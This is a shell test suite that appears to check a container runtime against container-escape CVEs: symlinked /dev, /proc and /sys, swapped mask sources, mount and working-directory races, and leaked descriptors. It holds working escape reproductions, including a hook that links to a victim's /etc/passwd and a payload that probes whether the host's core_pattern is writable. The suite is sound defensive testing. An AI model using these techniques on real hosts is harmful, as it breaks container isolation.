#!/usr/bin/env bats
# shellcheck disable=SC2030,SC2031
# Paths in a root or a volume that somebody else writes.
load attack

setup_file() {
	attack_file_setup
	peer_start
}
teardown_file() { peer_stop; }
setup() { attack_setup; }
teardown() { attack_teardown; }

dev_is_filled() { peer run --bundle "$B" oci-a > said 2>&1; touched victim; }

@test "/dev is a link to a directory of the host (CVE-2026-41579, CVE-2026-47766)" {
	local link peer
	make_victim victim
	for link in "$PWD/victim" "../../../../../../../../../../../$PWD/victim"; do
		rm -rf root
		root_copy root
		rmdir root/dev
		ln -s "$link" root/dev
		timeout 20 ctr run --rm --rootfs "$PWD/root" -- true || :
		held untouched victim
		bundle ".root.path = \"$PWD/root\" | .process.args = [\"true\"]"
		oci_run oci-a
		bundle ".root.path = \"$PWD/root\" | .process.args = [\"true\"] | del(.mounts[] | select(.destination == \"/dev\"))"
		oci_run oci-a
		bundle ".root.path = \"$PWD/root\" | .process.args = [\"true\"] | .mounts |= map(select(.destination | startswith(\"/dev\") | not))"
		oci_run oci-a
		held untouched victim
	done
	naive dev root
	control_fell touched victim
	for peer in crun runc; do
		rm -r victim
		make_victim victim
		falls $peer dev_is_filled
	done
}

# A root whose null device is a link to another file.
swapped_root() {
	rm -rf root
	root_copy root
	echo secret > root/etc/hidden
	echo other > root/etc/other
	rm -f root/dev/null
	ln -s /etc/other root/dev/null
}
other_is_shown() { peer run --bundle "$B" oci-a > said 2>&1; grep -qx other root/tmp/said; }

@test "the source of masks is swapped (CVE-2025-31133)" {
	swapped_root
	# Without a /dev of its own, what the image has there is what a path would lead to.
	bundle ".root.path = \"$PWD/root\" | del(.mounts[] | select(.destination | startswith(\"/dev\"))) |
		.process.args = [\"sh\", \"-c\", \"{ stat -c %t:%T /etc/hidden /proc/keys; cat /etc/hidden; } > /tmp/said 2>&1\"] |
		.linux.maskedPaths += [\"/etc/hidden\"]"
	# A device is bound over an empty file at the most, wherever its path leads to.
	oci_run oci-a
	echo "$output" >&2
	held one_line "$output"
	held [ ! -e root/tmp/said ]
	: > root/etc/other
	oci_run oci-a
	cat root/tmp/said >&2
	held [ "$(cat root/tmp/said)" = "1:3"$'\n'"1:3" ]
	swapped_root
	run -0 ctr run --rm --rootfs "$PWD/root" -- sh -c 'stat -c %t:%T /proc/keys /dev/null'
	echo "$output" >&2
	held [ "$output" = "1:3"$'\n'"1:3" ]
	naive mount / "$PWD/root/etc/other" "$PWD/root/etc/hidden" cat "$PWD/root/etc/hidden" > shown
	ln -sf "$PWD/root/etc/other" root/dev/null
	naive mount / "$PWD/root/dev/null" "$PWD/root/etc/hidden" cat "$PWD/root/etc/hidden" > shown
	control_fell grep -q other shown
	swapped_root
	falls runc other_is_shown
}

# swapped DIR: a volume in which a sibling exchanges a directory and a link out of it, without end.
swapped() {
	mkdir -p "$1/x" src
	ln -s "$2" "$1/link"
	started swapper -v "$PWD/$1:/v" -- inside swap /v/x /v/link
	until_true "it swaps" logged swapper swapping
}

# made WORDS OF find...: whether something of ours is in the volume, while nothing moves in it.
made() {
	ctr pause swapper
	[ -n "$(find volume "$@")" ] || { echo "nothing was made: the attack was not there" >&2; return 1; }
	ctr resume swapper
}

# Each time with other names. Held a little between looking and making, it does not take as many.
peer_mounts() {
	local n
	for ((n = 0; n < 1000; n++)); do
		sed -i -E "s,/v/x/([abc])[0-9]*/,/v/x/\19$n/,g" "$B/config.json"
		command timeout -k 2 $((20 * TEST_PATIENCE)) strace -qq -f --seccomp-bpf -o /dev/null -e trace=mkdirat -e inject=mkdirat:delay_enter=3000 \
			"$BATS_FILE_TMPDIR/peer.sh" "$RT" run --bundle "$B" oci-a < /dev/null > /dev/null 2>&1 || :
		! touched victim || return 0
	done
	return 1
}

@test "a sibling swaps the target of a mount while it is made (CVE-2024-45310, CVE-2021-30465)" {
	local n
	make_victim victim
	swapped volume "$PWD/victim"
	for ((n = 0; n < TRIES; n++)); do
		timeout 20 ctr run --rm --rootfs "$FS" -v "$PWD/volume:/v" -v "$PWD/src:/v/x/made$n" \
			--tmpfs "/v/x/tmp$n" -- true 2> /dev/null || :
	done
	held untouched victim
	bundle ".process.args = [\"true\"] | .mounts += [
		{destination: \"/v\", type: \"bind\", source: \"$PWD/volume\", options: [\"rbind\"]},
		{destination: \"/v/x/a/made\", type: \"bind\", source: \"$PWD/src\", options: [\"rbind\"]},
		{destination: \"/v/x/b/tmp\", type: \"tmpfs\", source: \"tmpfs\"},
		{destination: \"/v/x/c/link\", type: \"bind\", source: \"$PWD/base\", options: [\"bind\"]}]"
	touch base
	for ((n = 0; n < TRIES; n++)); do
		sed -i -E "s,/v/x/([abc])[0-9]*/,/v/x/\1$n/,g" "$B/config.json"
		timeout 20 ctr-oci --root "$OCI_ROOT" run --bundle "$B" oci-a < /dev/null > /dev/null 2>&1 || :
	done
	held untouched victim
	# Both were there: each of the two has made something in it.
	made -name 'made*'
	made -path '*/a*/made'
	for ((n = 0; n < 1000; n++)); do
		naive mount volume "$PWD/src" "x/naive$n" > /dev/null 2>&1 || :
		! touched victim || break
	done
	control_fell touched victim
	rm -r victim
	make_victim victim
	falls runc peer_mounts
	ctr rm -f swapper
}

@test "a sibling swaps the working directory, which is made where it is missing" {
	local n
	make_victim victim
	swapped volume "$PWD/victim"
	for ((n = 0; n < TRIES / 3; n++)); do
		timeout 20 ctr run --rm --rootfs "$FS" -v "$PWD/volume:/v" -w "/v/x/cwd$n/y" -- true 2> /dev/null || :
		timeout 20 ctr exec -w "/v/x/exec$n/y" swapper true 2> /dev/null || :
	done
	held untouched victim
	bundle ".process.args = [\"sleep\", \"1000\"] | .mounts += [
		{destination: \"/v\", type: \"bind\", source: \"$PWD/volume\", options: [\"rbind\"]}]"
	create oci-a
	oci start oci-a
	for ((n = 0; n < TRIES / 3; n++)); do
		timeout 20 ctr-oci --root "$OCI_ROOT" exec --cwd "/v/x/oci$n/y" oci-a true > /dev/null 2>&1 || :
	done
	held untouched victim
	# exec makes none; run does.
	made -name 'cwd*'
	[ -z "$(find volume -name 'exec*' -o -name 'oci*')" ]
	for ((n = 0; n < 1000; n++)); do
		naive mount volume "$PWD/src" "x/naive$n" > /dev/null 2>&1 || :
		! touched victim || break
	done
	ctr rm -f swapper
	control_fell touched victim
}

@test "/proc or /sys is a link (CVE-2019-19921, CVE-2023-27561)" {
	local name
	make_victim victim
	for name in proc sys; do
		rm -rf root
		root_copy root
		rmdir "root/$name"
		ln -s "$PWD/victim" "root/$name"
		held refused 125 "/$name is a symbolic link in the image" ctr run --rm --rootfs "$PWD/root" -- true
		bundle ".root.path = \"$PWD/root\" | .process.args = [\"true\"]"
		oci_run oci-a
		held [ "$status" -eq 1 ]
		[[ $output =~ "/$name is a symbolic link in the image" ]]
		# A link within the root is no better.
		ln -sfn tmp "root/$name"
		oci_run oci-a
		held [ "$status" -eq 1 ]
		held refused 125 "/$name is a symbolic link in the image" ctr run --rm --rootfs "$PWD/root" -- true
	done
	held untouched victim
	rm -rf root/proc
	ln -s "$PWD/victim" root/proc
	control_fell [ "$(naive proc root)" = "$(realpath victim)" ]
}

# What a payload finds of the host's to write, wherever its procfs is by now.
WRITABLE='for p in /proc /was /decoy; do (cd $p && [ -e self/mountinfo ] && : >> sys/kernel/core_pattern) 2> /dev/null && echo writable; done; true'

# moved: a hook that plays a sibling with the root in a volume: /proc and /dev are elsewhere once they are
# mounted, and something else is in their places.
moved() {
	rm -rf root
	root_copy root
	mkdir -p root/dev root/proc
	cat > hook <<-END
		#!/bin/sh
		[ "\$1" = none ] || cat > /dev/null
		cd $PWD/root && mv proc was && mv dev was-dev && mkdir -p proc/sys/net/ipv4 proc/self dev/pts &&
		ln -s $PWD/victim/etc/passwd proc/sys/net/ipv4/ip_forward && echo decoy > dev/pts/ptmx && mknod -m 666 dev/null c 1 3
	END
	chmod +x hook
}
moved_bundle() {
	bundle ".root.path = \"$PWD/root\" | .hooks.createRuntime = [{path: \"$PWD/hook\"}] | .linux.sysctl = {\"net.ipv4.ip_forward\": \"1\"} | ${1:-.}" &&
		jq --arg w "$WRITABLE" '.process.args = ["sh", "-c", $w]' "$B/config.json" > c && mv c "$B/config.json"
}
peer_is_writable() { peer run --bundle "$B" oci-a 2> said | grep -qx writable; }

@test "what was mounted is swapped before it is masked, made read-only and set (CVE-2019-16884's kind)" {
	make_victim victim
	moved
	moved_bundle
	oci_run oci-a
	echo "$status $output" >&2
	held [ "$status $output" = "0 " ]
	held untouched victim
	moved
	control_fell grep -qx writable <(naive late "$PWD/root" "$PWD/hook none" "$PWD/root/was")
	moved
	moved_bundle 'del(.linux.sysctl)'
	falls crun peer_is_writable
}

@test "what an engine is sent as a terminal is none" {
	local got
	moved
	moved_bundle '.process.terminal = true | del(.linux.sysctl)'
	cat > engine.py <<-'END'
		import os, socket, subprocess, sys
		s = socket.socket(socket.AF_UNIX); s.bind("c.sock"); s.listen(1); s.settimeout(30)
		p = subprocess.Popen(["ctr-oci", "--root", sys.argv[1], "create", "--bundle", sys.argv[2], "--console-socket", "c.sock", "oci-a"])
		try:
		    c, _ = s.accept(); c.settimeout(30)
		    print(*("terminal" if os.isatty(f) else "no terminal" for f in socket.recv_fds(c, 100, 4)[1]))
		except OSError:
		    print("nothing")
		p.wait()
	END
	got=$(timeout 60 python3 engine.py "$OCI_ROOT" "$B")
	held [ "$got" = terminal ] || held [ "$got" = nothing ]
	moved
	control_fell grep -qx 'no terminal' <(naive late "$PWD/root" "$PWD/hook none" "$PWD/root/was")
}

@test "a sibling swaps /proc while masks and read-only paths are made" {
	local n runs=0
	mkdir -p volume
	root_copy volume/root
	mkdir -p volume/root/proc volume/root/decoy/sys
	started swapper -v "$PWD/volume:/v" -- inside swap /v/root/proc /v/root/decoy
	until_true "it swaps" logged swapper swapping
	bundle ".root.path = \"$PWD/volume/root\""
	jq --arg w "echo runs; $WRITABLE" '.process.args = ["sh", "-c", $w]' "$B/config.json" > c
	mv c "$B/config.json"
	for ((n = 0; n < TRIES; n++)); do
		oci_run oci-a
		[[ $output != *runs* ]] || runs=$((runs + 1))
		held [ "$(grep -c writable <<< "$output")" -eq 0 ]
	done
	# The payload was there to look.
	[ "$runs" -gt $((TRIES / 2)) ]
	for ((n = 0; n < 1000; n++)); do
		! naive late "$PWD/volume/root" true "$PWD/volume/root/decoy" 2> /dev/null | grep -qx writable || break
	done
	ctr rm -f swapper
	control_fell [ "$n" -lt 1000 ]
}

# 8 is a directory of the host.
works_on_host() { peer "$@" 8< host | grep -qx of-host; }

@test "the working directory is a descriptor that was inherited (CVE-2024-21626)" {
	local fd
	exec 8< /etc
	bundle '.process.args = ["sh", "-c", "pwd; ls"]'
	for fd in {3..12}; do
		run ! timeout 20 ctr run --rm --rootfs "$FS" -w "/proc/self/fd/$fd" -- true
		jq ".process.cwd = \"/proc/self/fd/$fd\"" "$BATS_FILE_TMPDIR/base.json" > "$B/config.json"
		oci_run oci-a
		held [ "$status" -eq 1 ]
	done
	ln -s /proc/self/fd/8 "$FS/tmp/eight"
	run ! timeout 20 ctr run --rm --rootfs "$FS" -w /tmp/eight -- true
	started kept -- sleep 1000
	bundle '.process.args = ["sleep", "1000"]'
	create oci-a
	oci start oci-a
	for fd in 3 8 9 10; do
		run ! timeout 20 ctr exec -w "/proc/self/fd/$fd" kept true
		run ! oci exec --cwd "/proc/self/fd/$fd" oci-a true
	done
	run ! oci exec --cwd /tmp/eight oci-a true
	ctr rm -f kept
	exec 8<&-
	rm "$FS/tmp/eight"
	root_copy root
	control_fell [ -n "$(naive cwd "$PWD/root" /proc/self/fd/7/etc /bin/sh -c 'ls | grep fstab')" ]
	mkdir host
	touch host/of-host
	bundle '.process.args = ["ls"] | .process.cwd = "/proc/self/fd/8"'
	falls crun works_on_host run --bundle "$B" oci-a
	bundle '.process.args = ["sleep", "1000"]'
	RT=crun create oci-a
	RT=crun peer start oci-a
	falls crun works_on_host exec --cwd /proc/self/fd/8 oci-a ls
}

hook_has_more() { peer run --bundle "$B" oci-a > said 2>&1; [ "$(wc -l < hook)" -gt 4 ]; }

@test "no descriptor above 2 reaches a payload or a hook unasked" {
	local seen want=$'0\n1\n2\n3' # ls has 3 open itself
	exec 7< /etc 8< / 9< /dev/null
	seen=$(ctr run --rm --rootfs "$FS" -- ls /proc/self/fd)
	held [ "$seen" = "$want" ]
	started kept -- sleep 1000
	held [ "$(ctr exec kept ls /proc/self/fd)" = "$want" ]
	ctr rm -f kept
	bundle ".process.args = [\"ls\", \"/proc/self/fd\"] | .hooks.createContainer = [{path: \"/bin/sh\",
		args: [\"sh\", \"-c\", \"ls /proc/self/fd > $PWD/hook\"]}]"
	oci_run oci-a
	echo "$output" >&2
	held [ "$output" = "$want" ]
	held [ "$(cat hook)" = "$want" ]
	control_fell [ "$(sh -c 'ls /proc/self/fd | grep -c "[789]"')" -eq 3 ]
	exec 7<&- 8<&- 9<&-
	falls runc hook_has_more
}

# jailed COMMAND...: within a chroot that is a mount, of the whole host. The mount is this call's own.
jailed() { unshare -m --propagation private sh -c "mount --rbind / '$PWD/jail' && exec chroot '$PWD/jail' \"\$@\"" sh "$@"; }
# The place of a peer outlives its calls; so does the mount in it.
peer_jailed() {
	command timeout -k 2 $((20 * TEST_PATIENCE)) sh -c "echo \$\$ > $PEER_GROUPS/runner/cgroup.procs &&
		exec nsenter -t $PEER -m -C chroot '$PWD/jail' \"\$@\"" sh "$RT" --root "$PEER_ROOT-$RT" "$@" < /dev/null
}
peer_comes_out() {
	nsenter -t "$PEER" -m mount --rbind / "$PWD/jail"
	peer_jailed create --bundle "$B" oci-a > said 2>&1
	peer_jailed start oci-a
	peer_jailed exec oci-a test ! -e "$MARK"
}
peer_is_gone() {
	peer_jailed delete --force oci-a
	nsenter -t "$PEER" -m umount -l "$PWD/jail"
}

@test "whoever starts a container is in a chroot: what joins its mount namespace comes out above" {
	local options peer
	mkdir jail
	bundle '.process.args = ["sleep", "1000"]'
	for options in "" --no-pivot; do
		jailed ctr-oci --root "$OCI_ROOT" create $options --bundle "$B" oci-a < /dev/null > said 2>&1
		jailed ctr-oci --root "$OCI_ROOT" start oci-a
		held [ "$(oci exec oci-a ls "$MARK")" = "$MARK" ]
		held [ "$(nsenter -m -t "$(oci state oci-a | jq .pid)" /bin/ls "$MARK")" = "$MARK" ]
		oci delete --force oci-a
	done
	jailed ctr run -d --userns host --name a --rootfs "$FS" -- sleep 1000
	held [ "$(ctr exec a ls "$MARK")" = "$MARK" ]
	held [ "$(ctr cp "a:$MARK" - | tar tf -)" = "${MARK##*/}" ]
	ctr rm -f a
	for peer in crun runc; do
		RT=$peer falls $peer peer_comes_out
		RT=$peer peer_is_gone
	done
}
